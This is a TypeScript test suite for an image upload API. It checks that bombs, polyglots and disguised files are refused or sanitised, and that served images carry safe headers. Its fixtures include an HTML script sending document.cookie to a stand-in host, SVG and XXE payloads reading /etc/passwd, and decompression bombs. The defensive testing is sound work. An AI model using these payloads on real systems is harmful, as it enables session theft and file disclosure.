import { deflateRawSync, deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import type { UploadView } from '@shared/upload';
import { pictureOf } from '../pictures';
import { ask, codeOf, type Answer } from './ask';
import { makeWorld, openSession, type World } from './world';

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, sum]);
};
/** A PNG whose header says what it likes. */
const png = (width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    ...more,
    chunk('IDAT', deflateSync(pixels, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};
const blank = (width: number, height: number): Buffer => Buffer.alloc((Math.ceil(width / 8) + 1) * height);
const zip = (): Buffer => {
  const data = deflateRawSync(Buffer.from('malware'));
  return Buffer.concat([
    Buffer.from('PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000'),
    data,
    Buffer.from('PK\u0005\u0006'),
    Buffer.alloc(18),
  ]);
};
const riff = (content: string): Buffer => {
  const bytes = Buffer.from(content, 'latin1');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(bytes.length + 4);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), bytes]);
};
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="500" height="500"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>';
const HTML = '<!doctype html><script>fetch("https://evil.invalid/"+document.cookie)</script>';
const ENTITIES =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>';

/** What is no picture of ours, and the code that says so. */
const REFUSED: Record<string, [() => Buffer | Promise<Buffer>, string]> = {
  'a pixel bomb of 50,000 × 50,000 in a few KB': [
    () => png(50_000, 50_000, Buffer.alloc(1024)),
    'UPLOAD_TOO_MANY_PIXELS',
  ],
  'a pixel bomb that is really there': [() => png(30_000, 30_000, blank(30_000, 30_000)), 'UPLOAD_TOO_MANY_PIXELS'],
  'a strip of 16,000,000 × 1': [() => png(16_000_000, 1, blank(16_000_000, 1)), 'UPLOAD_TOO_SMALL'],
  'a size of nothing': [() => png(0, 0, Buffer.alloc(10)), 'UPLOAD_UNREADABLE'],
  'a good header with rubbish behind it': [() => png(500, 500, Buffer.from('rubbish')), 'UPLOAD_UNREADABLE'],
  'SVG with a script': [() => Buffer.from(SVG), 'UPLOAD_TYPE_REFUSED'],
  'SVG that reads files': [() => Buffer.from(ENTITIES), 'UPLOAD_TYPE_REFUSED'],
  'HTML as .jpg': [() => Buffer.from(HTML), 'UPLOAD_TYPE_REFUSED'],
  'HTML behind the first bytes of a JPEG': [
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(HTML)]),
    'UPLOAD_UNREADABLE',
  ],
  'a zip as .jpg': [zip, 'UPLOAD_TYPE_REFUSED'],
  'a GIF that is a script': [() => Buffer.from('GIF89a/*\u0001\u0000*/=1;alert(1)//', 'latin1'), 'UPLOAD_TYPE_REFUSED'],
  'a real GIF': [
    async () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'),
    'UPLOAD_TYPE_REFUSED',
  ],
  'a TIFF': [() => Buffer.from('II*\u0000\u0008\u0000\u0000\u0000', 'latin1'), 'UPLOAD_TYPE_REFUSED'],
  'a PDF': [() => Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj'), 'UPLOAD_TYPE_REFUSED'],
  'a HEIC that is none': [
    () => Buffer.from('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000mif1heic', 'latin1'),
    'UPLOAD_TYPE_REFUSED',
  ],
  'a WebP of nothing': [() => riff('VP8 \u0000\u0000\u0000\u0000'), 'UPLOAD_UNREADABLE'],
  'a WebP that says too much': [() => riff(`VP8L\u00ff\u00ff\u00ff\u007f/${'\u00ff'.repeat(40)}`), 'UPLOAD_UNREADABLE'],
  'the first bytes of a PNG alone': [
    () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    'UPLOAD_UNREADABLE',
  ],
  'a JPEG that is cut off': [async () => (await pictureOf(1)).subarray(0, 9_000), 'UPLOAD_UNREADABLE'],
  'nothing at all': [() => Buffer.alloc(0), 'UPLOAD_INCOMPLETE'],
  'one byte': [() => Buffer.alloc(1), 'UPLOAD_TYPE_REFUSED'],
  'a megabyte of zeros': [() => Buffer.alloc(1024 * 1024), 'UPLOAD_TYPE_REFUSED'],
};

describe('what comes as a picture and is none', () => {
  let world: World;
  let token: string;
  beforeAll(async () => {
    world = await makeWorld();
    token = await openSession(world.own, world.own.people.studentA.id, 'uploads');
  });
  afterAll(() => world.close());

  const send = (file: Buffer): Promise<Answer> =>
    ask(world.harness, {
      method: 'POST',
      path: '/api/v1/uploads',
      token,
      body: { purpose: 'evidence', slot: 'hostile' },
      file,
    });
  const read = (path: string) =>
    world.harness.app.inject({ method: 'GET', url: path, headers: { authorization: `Bearer ${token}` } });

  it.each(Object.entries(REFUSED))('is refused with its reason: %s', async (_, [file, code]) => {
    const bytes = await file();
    const before = process.memoryUsage().rss;
    expect(codeOf(await send(bytes))).toBe(code);
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
    expect(await world.harness.database.query("SELECT 1 FROM uploads WHERE slot = 'hostile'")).toEqual([]);
  });

  it('is taken without what hides behind it or in it', async () => {
    const picture = await pictureOf(2);
    const comment = Buffer.concat([
      Buffer.from([0xff, 0xfe, 0x00, 0x20]),
      Buffer.from('<?php canary-comment ?>'.padEnd(30)),
    ]);
    const polyglot = Buffer.concat([
      picture.subarray(0, 2),
      comment,
      picture.subarray(2),
      zip(),
      Buffer.from(HTML),
      Buffer.from('canary-tail'),
    ]);
    const answer = await send(polyglot);
    expect(answer.status).toBe(201);
    const kept = (await read((answer.body as UploadView).addresses.photo)).rawPayload;
    for (const part of ['canary', 'PK\u0003\u0004', 'script', '<?php']) {
      expect(kept.includes(part)).toBe(false);
    }
    expect((await sharp(kept).metadata()).format).toBe('jpeg');
  });

  it('with a text that unpacks to 200 MB costs no 200 MB', async () => {
    const text = Buffer.concat([
      Buffer.from('Comment\0\0'),
      deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 }),
    ]);
    const before = process.memoryUsage().rss;
    const answer = await send(png(400, 400, blank(400, 400), chunk('zTXt', text)));
    expect(answer.status).toBeLessThan(500);
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
  });

  it('is served as a picture and nothing else, under a name of ours', async () => {
    const { addresses } = (await send(await pictureOf(3))).body as UploadView;
    for (const [name, path] of [
      ['photo', addresses.photo],
      ['thumbnail', addresses.thumbnail],
    ] as const) {
      const { statusCode, headers } = await read(path);
      expect(statusCode).toBe(200);
      expect(headers).toMatchObject({
        'content-type': 'image/jpeg',
        'x-content-type-options': 'nosniff',
        'cache-control': 'no-store',
        'content-disposition': `inline; filename="${name}.jpg"`,
        'cross-origin-resource-policy': 'same-origin',
      });
    }
  });
});
